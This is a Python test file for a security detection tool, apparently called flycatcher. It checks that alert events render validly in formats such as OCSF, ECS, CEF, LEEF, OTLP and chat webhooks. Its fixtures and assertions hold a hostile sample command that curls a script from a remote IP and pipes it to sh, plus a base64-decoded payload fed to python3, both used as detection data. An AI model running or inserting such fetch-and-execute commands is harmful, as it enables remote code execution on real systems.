"""Each format says what it should, and says it validly: published schemas and parsers of others are the oracles."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from msgspec import structs

from flycatcher import __version__
from flycatcher.sinks.delivery.registry import format_classes
from flycatcher.sinks.message import Event, Group
from tests.delivery.events import detection, hostile, notice

GROUP = Group(380, "2026-11-29T10:00:00.000000Z", "2026-11-29T10:05:00.000000Z")
EVENTS = {
    "detection": detection("perl", "-e", 'system("curl -s http://198.51.100.7/x | sh")', uid="d" * 32, environment="ci", ci__system="github",
                           ci__repository="acme/app", ci__job="build", container__id="c" * 64, container__image="debian:12"),
    "grouped": structs.replace(detection(uid="e" * 32), group=GROUP),
    "stdin": detection("sh", "-c", "echo cHJpbnQoMSk= | base64 -d | python3", uid="f" * 32),
    "loss": notice(),
    "started": notice("started", text="watching with ebpf", place="", count=0),
    "summary": Event(uid="5" * 32, time=1_796_000_001.0, kind="summary", host="builder-7",
                     record={"schema": "flycatcher.summary/1", "summary": {"executions_seen": 3, "lost": 0, "detections": 1}}),
}  # fmt: skip
JSON = sorted(set(format_classes()) - {"cef", "leef", "text"})


def rendered(name: str, event: Event) -> str:
    return format_classes()[name]().render(event).decode()


@pytest.mark.parametrize("name", sorted(format_classes()))
@pytest.mark.parametrize("kind", EVENTS)
def test_every_format_takes_every_event_in_one_line_with_its_id(name: str, kind: str) -> None:
    event = EVENTS[kind]
    text = rendered(name, event)
    assert "\n" not in text
    said = event.uid in text or event.uid in text.replace("-", "")
    assert said or (name in {"mattermost", "teams", "discord", "google-chat", "slack"} and event.is_detection)
    if name in JSON:
        json.loads(text)


def test_our_own_json_is_the_record_with_the_event() -> None:
    found = json.loads(rendered("flycatcher", EVENTS["grouped"]))
    assert found["event"] == {
        "id": "e" * 32, "kind": "detection", "time": "2026-11-30T00:53:20.250000Z", "host": "builder-7", "level": EVENTS["grouped"].level,
        "group": {"count": 380, "first": "2026-11-29T10:00:00.000000Z", "last": "2026-11-29T10:05:00.000000Z"},
    }  # fmt: skip
    assert found["schema"] == "flycatcher.detection/1"


def ocsf(name: str, event: Event) -> tuple[dict[str, Any], Any]:
    """Return an event, and what the models of the published schema make of it."""
    events = pytest.importorskip("ocsf.v1_5_0.events")
    found = json.loads(rendered(name, event))
    classes = {2004: "DetectionFinding", 1009: "ScriptActivity", 6002: "ApplicationLifecycle", 6008: "ApplicationError"}
    return found, getattr(events, classes[found["class_uid"]]).model_validate(found)


@pytest.mark.parametrize("kind", EVENTS)
@pytest.mark.parametrize("name", ["ocsf", "ocsf-activity"])
def test_ocsf_is_valid_against_the_published_schema_and_uses_its_fields_alone(name: str, kind: str) -> None:
    found, model = ocsf(name, EVENTS[kind])
    assert unknown(model) == []
    assert found["type_uid"] == found["class_uid"] * 100 + found["activity_id"]
    assert found["metadata"]["version"] == "1.5.0"


def unknown(model: Any, path: str = "") -> list[str]:
    """Return the fields that a class of the schema does not have; ``unmapped`` is free."""
    found = [f"{path}.{name}" for name in model.__pydantic_extra__ or ()]
    for name in type(model).model_fields:
        if name == "unmapped":
            continue
        value = getattr(model, name)
        for each in value if isinstance(value, list) else [value]:
            if hasattr(each, "__pydantic_extra__"):
                found += unknown(each, f"{path}.{name}")
    return found


def test_a_detection_finding_holds_the_script_who_ran_it_and_where() -> None:
    found, _ = ocsf("ocsf", EVENTS["detection"])
    [evidence] = found["evidences"]
    assert evidence["script"]["script_content"] == {"value": 'system("curl -s http://198.51.100.7/x | sh")'}
    assert (evidence["script"]["type_id"], evidence["script"]["type"]) == (99, "perl")
    assert evidence["script"]["hashes"][0]["algorithm_id"] == 3
    assert evidence["process"]["parent_process"]["cmd_line"] == "make -j2"
    assert evidence["container"]["image"]["name"] == "debian:12"
    assert (found["is_alert"], found["device"]["hostname"], found["finding_info"]["title"]) == (
        True,
        "builder-7",
        "Code on the fly",
    )
    assert found["finding_info"]["attacks"][0] == {
        "technique": {"uid": "T1059", "name": "Command and Scripting Interpreter"},
        "tactic": {"uid": "TA0002", "name": "Execution"},
    }
    assert json.loads(rendered("ocsf", EVENTS["grouped"]))["count"] == 380


@pytest.mark.parametrize("kind", ["detection", "grouped", "stdin"])
def test_another_implementation_of_the_finding_agrees(kind: str) -> None:
    module = pytest.importorskip("py_ocsf_models.events.findings.detection_finding")
    found = json.loads(rendered("ocsf", EVENTS[kind]))
    assert module.DetectionFinding.model_validate(found).finding_info.uid == found["finding_info"]["uid"]


def test_ecs_is_an_alert_about_a_process() -> None:
    found = json.loads(rendered("ecs", EVENTS["detection"]))
    assert found["event"]["kind"] == "alert"
    assert (found["event"]["id"], found["event"]["category"], found["event"]["type"]) == (
        "d" * 32,
        ["process"],
        ["start"],
    )
    assert found["process"]["args"][:2] == ["perl", "-e"]
    assert found["process"]["args_count"] == 3
    assert found["process"]["parent"]["name"] == "make"
    assert found["threat"]["technique"]["id"][0] == "T1059"
    assert found["labels"] == {
        "ci_system": "github",
        "ci_repository": "acme/app",
        "ci_job": "build",
        "environment": "ci",
    }
    assert found["container"]["image"] == {"name": "debian:12"}
    lost = json.loads(rendered("ecs", EVENTS["loss"]))
    assert (lost["event"]["kind"], lost["event"]["action"], lost["flycatcher"]["notice"]["count"]) == (
        "event",
        "loss",
        3,
    )


def test_a_cef_line_is_what_a_parser_of_others_reads() -> None:
    line = rendered("cef", EVENTS["detection"])
    head, extension = read_cef(line)
    level = EVENTS["detection"].level
    severity = {"none": "1", "low": "3", "medium": "5", "high": "8", "critical": "10"}[level]
    assert head == ["CEF:0", "Flycatcher", "Flycatcher", __version__, "code_on_the_fly", "Code on the fly", severity]
    assert extension["cs1"] == 'system("curl -s http://198.51.100.7/x | sh")'
    assert (extension["externalId"], extension["dvchost"], extension["rt"]) == ("d" * 32, "builder-7", "1796000000250")
    assert read_cef(rendered("cef", EVENTS["loss"]))[1]["cnt"] == "3"


def read_cef(line: str) -> tuple[list[str], dict[str, str]]:
    """Read a line as the format's guide describes it: bars end the header's fields, ``key=`` behind a blank begins a value."""
    head, rest, at = [], line, 0
    while len(head) < 7:
        field = re.compile(r"(?:[^|\\]|\\.)*\|").match(rest, at)
        assert field, line
        head.append(re.sub(r"\\(.)", r"\1", field[0][:-1]))
        at = field.end()
    pairs = re.findall(r"(?:^| )([A-Za-z0-9_.]+)=((?:[^=\\]|\\.)*?)(?= [A-Za-z0-9_.]+=|$)", rest[at:])
    unescaped = {"n": "\n", "r": "\r"}
    return head, {key: re.sub(r"\\(.)", lambda m: unescaped.get(m[1], m[1]), value) for key, value in pairs}


def read_leef(line: str) -> tuple[list[str], dict[str, str]]:
    """Read a line as LEEF 2.0 has it: six fields behind bars, attributes between tabs."""
    *head, rest = line.split("|", 6)
    return head, dict(part.partition("=")[::2] for part in rest.split("\t"))


def test_a_leef_line_has_its_header_and_attributes() -> None:
    head, attributes = read_leef(rendered("leef", EVENTS["detection"]))
    assert head == ["LEEF:2.0", "Flycatcher", "Flycatcher", __version__, "code_on_the_fly", "0x09"]
    assert attributes["Text"] == 'system("curl -s http://198.51.100.7/x | sh")'
    assert (attributes["identHostName"], attributes["devTime"]) == ("builder-7", "2026-11-30T00:53:20.250Z")


def test_an_otlp_record_is_what_the_protocols_own_messages_read() -> None:
    logs = pytest.importorskip("opentelemetry.proto.logs.v1.logs_pb2")
    json_format = pytest.importorskip("google.protobuf.json_format")
    import base64  # noqa: PLC0415

    for event in EVENTS.values():
        made = json.loads(rendered("otlp", event))
        for name in ("traceId", "spanId"):  # OTLP's JSON has hex where protobuf's own has base64
            if name in made:
                made[name] = base64.b64encode(bytes.fromhex(made[name])).decode()
        found = json_format.ParseDict(made, logs.LogRecord())
        assert found.time_unix_nano == int(event.time * 1000) * 10**6
    assert made["severityNumber"] == 9
    found = json_format.ParseDict(json.loads(rendered("otlp", EVENTS["loss"])), logs.LogRecord())
    assert {each.key: each.value.int_value for each in found.attributes}["flycatcher.count"] == 3
    trace = json.loads(rendered("otlp", EVENTS["detection"]))
    assert (trace["traceId"], trace["spanId"]) == ("4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7")


def test_a_cloud_event_has_the_required_attributes() -> None:
    found = json.loads(rendered("cloudevents", EVENTS["detection"]))
    data = found.pop("data")
    assert found == {
        "specversion": "1.0", "id": "d" * 32, "source": "/flycatcher/builder-7", "type": "io.flycatcher.detection.v1",
        "time": "2026-11-30T00:53:20.250000Z", "datacontenttype": "application/json", "flycatcherlevel": EVENTS["detection"].level,
        "subject": data["id"],
    }  # fmt: skip


def test_jibril_events_have_both_versions_shapes() -> None:
    second = json.loads(rendered("jibril", EVENTS["detection"]))
    assert sorted(second) == ["base", "file", "process"]
    assert sorted(second["base"]) == ["background", "metadata", "note", "scenarios", "score", "timestamp", "uuid"]
    assert second["base"]["metadata"]["kind"] == "detections"
    assert second["base"]["scenarios"]["github"] == {"repository": "acme/app", "job": "build"}
    assert json.loads(second["base"]["note"])["argv"][0] == "perl"
    first = json.loads(rendered("jibril-v1", EVENTS["detection"]))
    assert (sorted(first), sorted(first["data"])) == (["agent_id", "data", "id", "kind"], ["body", "head"])
    assert first["data"]["body"]["process"] == second["process"]
    assert json.loads(rendered("jibril-v1", EVENTS["loss"]))["kind"] == "infos"


def test_text_is_one_line() -> None:
    assert rendered("text", EVENTS["loss"]) == (
        f"2026-11-30T00:53:20.500000Z high builder-7 loss: 3 records were lost in the ring id={'1' * 32}"
    )
    assert "(380 times)" in rendered("text", EVENTS["grouped"])


def test_chat_messages_say_who_where_and_what() -> None:
    slack = json.loads(rendered("slack", EVENTS["detection"]))
    assert [block["type"] for block in slack["blocks"]] == ["header", "rich_text", "section"]
    assert slack["blocks"][1]["elements"][0]["elements"][0]["text"] == 'system("curl -s http://198.51.100.7/x | sh")'
    assert {"type": "plain_text", "text": "job: acme/app build", "emoji": False} in slack["blocks"][2]["fields"]
    teams = json.loads(rendered("teams", EVENTS["detection"]))["attachments"][0]["content"]
    assert [part["type"] for part in teams["body"]] == ["RichTextBlock", "RichTextBlock", "FactSet"]
    discord = json.loads(rendered("discord", EVENTS["detection"]))
    assert discord["allowed_mentions"] == {"parse": []}
    assert discord["embeds"][0]["description"] == '```\nsystem("curl -s http://198.51.100.7/x | sh")\n```'


def test_incident_services_group_the_same_detection() -> None:
    pager, genie = (json.loads(rendered(name, EVENTS["detection"])) for name in ("pagerduty", "opsgenie"))
    identity = EVENTS["detection"].record["id"]
    assert (pager["dedup_key"], genie["alias"]) == (f"builder-7/{identity}", f"builder-7/{identity}")
    alert = json.loads(rendered("alertmanager", EVENTS["detection"]))
    assert (alert["labels"]["alertname"], alert["labels"]["instance"]) == ("CodeOnTheFly", "builder-7")


@pytest.mark.parametrize("name", sorted(format_classes()))
def test_no_text_is_cut_off_in_silence_or_breaks_a_format(name: str) -> None:
    long = rendered(name, hostile("x" * 200_000))
    assert "\n" not in long
    if name in {"slack", "discord"}:
        assert len(long) < 20_000


@pytest.mark.parametrize(
    ("files", "findings", "line"),
    [(1, 1, "scan: 1 build file read, 1 finding"), (0, 2, "scan: 0 build files read, 2 findings")],
)
def test_a_scan_s_figures_have_their_nouns(files: int, findings: int, line: str) -> None:
    record = {"schema": "flycatcher.summary/1", "summary": {"files": files, "findings": findings}}
    event = Event(uid="5" * 32, time=1_796_000_001.0, kind="summary", host="builder-7", record=record)
    assert f" {line} id=" in rendered("text", event)
